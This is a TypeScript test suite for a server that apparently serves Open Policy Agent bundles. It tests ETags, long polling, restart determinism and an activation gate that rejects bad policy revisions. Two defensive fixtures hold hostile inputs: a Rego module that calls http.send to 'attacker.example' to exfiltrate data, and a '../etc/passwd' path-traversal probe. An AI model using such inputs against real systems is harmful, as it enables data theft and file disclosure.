import { createHash } from 'node:crypto';
import { connect, createServer, type AddressInfo } from 'node:net';
import { describe, expect, onTestFinished, test } from 'vitest';
import { parsePlainRequestHead } from '../../src/http/fast-path/plain-request-head.js';
import { startBundleProxy } from '../helpers/bundle-proxy.js';
import { eventually, agentOptionsFor, startOpaAgent } from '../helpers/opa-agent.js';
import { startTestRegent } from '../helpers/start-regent.js';

const BUNDLE_TYPE = 'application/vnd.openpolicyagent.bundles';

describe('GET /bundles/<name>', () => {
  test('answers 200 with the bytes, a strong ETag of those bytes, the long-poll media type and no Content-Encoding', async () => {
    const regent = await startTestRegent();
    const response = await fetch(`${regent.url}/bundles/rbac`, { headers: { 'Accept-Encoding': 'gzip' } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(BUNDLE_TYPE);
    expect(response.headers.get('content-encoding')).toBeNull();
    const body = Buffer.from(await response.arrayBuffer());
    expect(response.headers.get('etag')).toBe(`"${createHash('sha256').update(body).digest('hex')}"`);
    expect(response.headers.get('x-regent-revision')).toBe(await regent.store.head());
    expect(Number(response.headers.get('content-length'))).toBe(body.length);
  });

  test('answers HEAD with the same headers and no body', async () => {
    const regent = await startTestRegent();
    const get = await fetch(`${regent.url}/bundles/datasets`);
    const head = await fetch(`${regent.url}/bundles/datasets`, { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(head.headers.get('etag')).toBe(get.headers.get('etag'));
    expect(head.headers.get('content-length')).toBe(get.headers.get('content-length'));
    expect((await head.arrayBuffer()).byteLength).toBe(0);
  });

  test.each([
    ['the exact ETag', (etag: string) => etag],
    ['the weak form of the ETag', (etag: string) => `W/${etag}`],
    ['a list containing the ETag', (etag: string) => `"other", ${etag}`],
    ['*', () => '*'],
  ])('returns 304 without a body or Content-Type when If-None-Match is %s', async (_name, header) => {
    const regent = await startTestRegent();
    const etag = (await fetch(`${regent.url}/bundles/rbac`)).headers.get('etag')!;
    const response = await fetch(`${regent.url}/bundles/rbac`, { headers: { 'If-None-Match': header(etag) } });
    expect(response.status).toBe(304);
    expect(response.headers.get('etag')).toBe(etag);
    expect(response.headers.get('content-type')).toBeNull();
    expect((await response.arrayBuffer()).byteLength).toBe(0);
  });

  test('returns 200 at once when If-None-Match names another ETag, even with wait=', async () => {
    const regent = await startTestRegent();
    const started = performance.now();
    const response = await fetch(`${regent.url}/bundles/rbac`, { headers: { 'If-None-Match': '"stale"', Prefer: 'modes=snapshot,delta;wait=30' } });
    expect(response.status).toBe(200);
    expect(performance.now() - started).toBeLessThan(5000);
  });

  test.each([
    ['an unknown bundle', '/bundles/nope', {}, 404, 'bundle_not_found'],
    ['a traversal-looking name', '/bundles/..%2f..%2fetc%2fpasswd', {}, 404, 'bundle_not_found'],
    ['a malformed If-None-Match', '/bundles/rbac', { 'If-None-Match': 'no-quotes' }, 400, 'invalid_if_none_match'],
    ['an oversized If-None-Match', '/bundles/rbac', { 'If-None-Match': `"${'a'.repeat(5000)}"` }, 400, 'invalid_if_none_match'],
    ['a non-numeric wait', '/bundles/rbac', { Prefer: 'modes=snapshot,delta;wait=soon' }, 400, 'invalid_prefer'],
    ['a negative wait', '/bundles/rbac', { Prefer: 'wait=-5' }, 400, 'invalid_prefer'],
  ])('answers %s with a problem document naming it', async (_name, path, headers, status, code) => {
    const regent = await startTestRegent();
    const response = await fetch(`${regent.url}${path}`, { headers: headers as Record<string, string> });
    expect(response.status).toBe(status);
    expect(response.headers.get('content-type')).toBe('application/problem+json');
    const problem = (await response.json()) as { code: string; status: number; detail: string };
    expect(problem.code).toBe(code);
    expect(problem.status).toBe(status);
    expect(problem.detail.length).toBeGreaterThan(0);
  });

  test('refuses other methods with 405 and an Allow header', async () => {
    const regent = await startTestRegent();
    const response = await fetch(`${regent.url}/bundles/rbac`, { method: 'POST', body: 'x' });
    expect(response.status).toBe(405);
    expect(response.headers.get('allow')).toBe('GET, HEAD');
  });

  test('holds a matching long poll instead of answering 304 at once, and caps an absurd wait', async () => {
    const regent = await startTestRegent({ config: { bundles: { longPollMaxSeconds: 1 } } });
    const etag = (await fetch(`${regent.url}/bundles/rbac`)).headers.get('etag')!;
    const started = performance.now();
    const response = await fetch(`${regent.url}/bundles/rbac`, { headers: { 'If-None-Match': etag, Prefer: 'modes=snapshot,delta;wait=999999999' } });
    const held = performance.now() - started;
    expect(response.status).toBe(304);
    expect(response.headers.get('preference-applied')).toBe('wait=1');
    expect(held).toBeGreaterThanOrEqual(850);
    expect(held).toBeLessThan(5000);
  });

  test('releases a held long poll with the new bundle as soon as a new revision is active', async () => {
    const regent = await startTestRegent();
    const before = await fetch(`${regent.url}/bundles/rbac`);
    const etag = before.headers.get('etag')!;
    const pending = fetch(`${regent.url}/bundles/rbac`, { headers: { 'If-None-Match': etag, Prefer: 'modes=snapshot,delta;wait=60' } });
    await eventually(async () => ((await (await fetch(`${regent.url}/status`)).json()) as { longPollWaiters: number }).longPollWaiters === 1, 5000);
    const head = (await regent.store.head())!;
    const committed = await regent.store.commit({ changes: [{ op: 'put', path: 'rbac/extra.rego', content: Buffer.from('package rbac.extra\n\nenabled := true\n') }], message: 'add a module', author: { name: 'A', email: 'a@example.test' }, expectedHead: head });
    const response = await pending;
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(BUNDLE_TYPE);
    expect(response.headers.get('etag')).not.toBe(etag);
    expect(response.headers.get('x-regent-revision')).toBe(committed.revision);
  });
});

describe('determinism', () => {
  test('the same revision gives identical bytes and ETag after a restart, and a real agent gets 304s', async () => {
    const first = await startTestRegent({ keepRunning: true });
    const before = await Promise.all(['rbac', 'datasets'].map(async (name) => {
      const response = await fetch(`${first.url}/bundles/${name}`);
      return { etag: response.headers.get('etag'), body: Buffer.from(await response.arrayBuffer()) };
    }));
    await first.close();
    const second = await startTestRegent({ dataDir: first.dataDir });
    for (const [index, name] of ['rbac', 'datasets'].entries()) {
      const response = await fetch(`${second.url}/bundles/${name}`);
      expect(response.headers.get('etag')).toBe(before[index]!.etag);
      expect(Buffer.from(await response.arrayBuffer()).equals(before[index]!.body)).toBe(true);
    }

    const proxy = await startBundleProxy(second.url);
    const agent = await startOpaAgent({
      ...agentOptionsFor(second, proxy.url),
      bundles: ['rbac'],
      longPollSeconds: undefined,
      minDelaySeconds: 1,
      maxDelaySeconds: 1,
    });
    await agent.waitUntilReady();
    await eventually(async () => (proxy.counts.get(304) ?? 0) >= 2, 10_000, () => JSON.stringify([...proxy.counts]));
    expect(proxy.counts.get(200)).toBe(1);
  });
});

describe('the heartbeat fast path', () => {
  test("a real OPA agent's periodic poll is a request the fast path answers: plain, with its token, and answered 304", async () => {
    const regent = await startTestRegent();
    const relay = await recordingRelay(new URL(regent.url).port);
    const agent = await startOpaAgent({ ...agentOptionsFor(regent, relay.url), bundles: ['rbac'], longPollSeconds: undefined, minDelaySeconds: 1, maxDelaySeconds: 1, bearerToken: 'agent-token-0123456789' });
    await agent.waitUntilReady();
    await eventually(async () => relay.heads().filter((head) => /^if-none-match:/im.test(head)).length >= 3, 15_000, () => relay.heads().join('\n---\n'));
    const polls = relay.heads().filter((head) => head.startsWith('GET /bundles/rbac ') && /^if-none-match:/im.test(head));
    const etag = (await fetch(`${regent.url}/bundles/rbac`)).headers.get('etag');
    for (const poll of polls) {
      expect(parsePlainRequestHead(poll), poll).toMatchObject({ method: 'GET', target: '/bundles/rbac', ifNoneMatch: etag, authorization: 'Bearer agent-token-0123456789', prefer: 'modes=snapshot,delta' });
    }
    expect(relay.answers().filter((status) => status === '304').length).toBeGreaterThanOrEqual(polls.length - 1);
    expect(relay.answers().filter((status) => status === '200')).toHaveLength(1);
  });
});

/**
 * A TCP relay in front of `port` that keeps what clients sent, cut into request heads, and the status
 * of each answer: what an agent really puts on the wire.
 */
async function recordingRelay(port: string): Promise<{ url: string; heads: () => string[]; answers: () => string[] }> {
  let sent = '';
  let received = '';
  const server = createServer((client) => {
    const upstream = connect(Number(port), '127.0.0.1');
    client.on('data', (chunk: Buffer) => {
      sent += chunk.toString('latin1');
      upstream.write(chunk);
    });
    upstream.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1');
      client.write(chunk);
    });
    client.on('close', () => upstream.destroy());
    upstream.on('close', () => client.destroy());
    client.on('error', () => undefined);
    upstream.on('error', () => undefined);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  onTestFinished(() => new Promise<void>((done) => {
    server.close(() => done());
  }));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heads: () => sent.split('\r\n\r\n').filter((head) => /^[A-Z]+ \//.test(head)),
    answers: () => [...received.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map((match) => match[1]!),
  };
}

describe('the activation gate', () => {
  test('a head that fails OPA checks is not served: the last good revision stays, and /status says why', async () => {
    const regent = await startTestRegent();
    const good = (await regent.store.head())!;
    const etag = (await fetch(`${regent.url}/bundles/rbac`)).headers.get('etag');
    const bad = await regent.store.commit({
      changes: [{ op: 'put', path: 'rbac/broken.rego', content: Buffer.from('package rbac.broken\n\nallow if {\n  input.x ==\n}\n') }],
      message: 'broken module', author: { name: 'A', email: 'a@example.test' }, expectedHead: good,
    });
    await regent.activation.idle();
    await eventually(async () => regent.activation.status().lastFailure?.revision === bad.revision, 10_000);
    const status = (await (await fetch(`${regent.url}/status`)).json()) as { head: string; active: string; headDiffersFromActive: boolean; lastError: { problems: unknown[] } };
    expect(status.head).toBe(bad.revision);
    expect(status.active).toBe(good);
    expect(status.headDiffersFromActive).toBe(true);
    expect(status.lastError).toMatchObject({ revision: bad.revision, step: 'gate', code: 'gate_failed' });
    expect(status.lastError.problems[0]).toMatchObject({ code: 'rego_parse_error', file: 'rbac/broken.rego', line: 5 });
    const served = await fetch(`${regent.url}/bundles/rbac`);
    expect(served.headers.get('etag')).toBe(etag);
    expect(served.headers.get('x-regent-revision')).toBe(good);
  });

  test('a head whose Rego tests fail, or that calls http.send, is not activated', async () => {
    const regent = await startTestRegent();
    const good = (await regent.store.head())!;
    const failing = await regent.store.commit({
      changes: [{ op: 'put', path: 'rbac/extra_test.rego', content: Buffer.from('package rbac\n\ntest_impossible if allow with input as {}\n') }],
      message: 'failing test', author: { name: 'A', email: 'a@example.test' }, expectedHead: good,
    });
    await eventually(async () => regent.activation.status().lastFailure?.revision === failing.revision, 10_000);
    expect(regent.activation.status().lastFailure?.problems?.[0]).toMatchObject({ code: 'rego_test_failed', file: 'rbac/extra_test.rego' });

    const exfiltrating = await regent.store.commit({
      changes: [
        { op: 'delete', path: 'rbac/extra_test.rego' },
        { op: 'put', path: 'rbac/leak.rego', content: Buffer.from('package rbac.leak\n\nsent := http.send({"method": "GET", "url": "http://attacker.example"})\n') },
      ],
      message: 'exfiltrate', author: { name: 'A', email: 'a@example.test' }, expectedHead: failing.revision,
    });
    await eventually(async () => regent.activation.status().lastFailure?.revision === exfiltrating.revision, 10_000);
    expect(regent.activation.status().lastFailure?.problems?.[0]?.message).toMatch(/http\.send/);
    expect(regent.activation.status().active).toBe(good);
  });

  test('a head with data outside its bundle roots fails the build with the file named', async () => {
    const regent = await startTestRegent();
    const good = (await regent.store.head())!;
    const regentYaml = 'bundles:\n  rbac:\n    paths: [rbac, extra]\n    roots: [rbac]\n  datasets:\n    roots: [datasets]\n  discovery:\n    roots: [discovery]\n  stelar:\n    roots: [stelar]\n';
    const bad = await regent.store.commit({
      changes: [
        { op: 'put', path: 'regent.yaml', content: Buffer.from(regentYaml) },
        { op: 'put', path: 'extra/data.json', content: Buffer.from('{"stray": true}') },
      ],
      message: 'data outside roots', author: { name: 'A', email: 'a@example.test' }, expectedHead: good,
    });
    await eventually(async () => regent.activation.status().lastFailure?.revision === bad.revision, 10_000);
    expect(regent.activation.status().lastFailure).toMatchObject({ step: 'build', code: 'data_outside_roots', details: { file: 'extra/data.json' } });
    expect(regent.activation.status().lastFailure?.message).toContain("'/extra'");
    expect(regent.activation.status().active).toBe(good);
  });

  test('a policy file that no bundle ships fails the build instead of being silently left out', async () => {
    const regent = await startTestRegent();
    const good = (await regent.store.head())!;
    const bad = await regent.store.commit({
      changes: [{ op: 'put', path: 'teams/policy.rego', content: Buffer.from('package teams\n\nallow := true\n') }],
      message: 'orphan module', author: { name: 'A', email: 'a@example.test' }, expectedHead: good,
    });
    await eventually(async () => regent.activation.status().lastFailure?.revision === bad.revision, 10_000);
    expect(regent.activation.status().lastFailure).toMatchObject({ step: 'build', code: 'file_outside_bundles', details: { file: 'teams/policy.rego' } });
  });

  test('after a restart with a failing head, the last good revision is served again', async () => {
    const first = await startTestRegent({ keepRunning: true });
    const good = (await first.store.head())!;
    await first.store.commit({
      changes: [{ op: 'put', path: 'rbac/broken.rego', content: Buffer.from('package rbac.broken\n\nnope nope\n') }],
      message: 'broken', author: { name: 'A', email: 'a@example.test' }, expectedHead: good,
    });
    await eventually(async () => first.activation.status().lastFailure !== undefined, 10_000);
    await first.close();
    const second = await startTestRegent({ dataDir: first.dataDir });
    expect(second.activation.status().active).toBe(good);
    expect((await fetch(`${second.url}/bundles/rbac`)).headers.get('x-regent-revision')).toBe(good);
  });
});
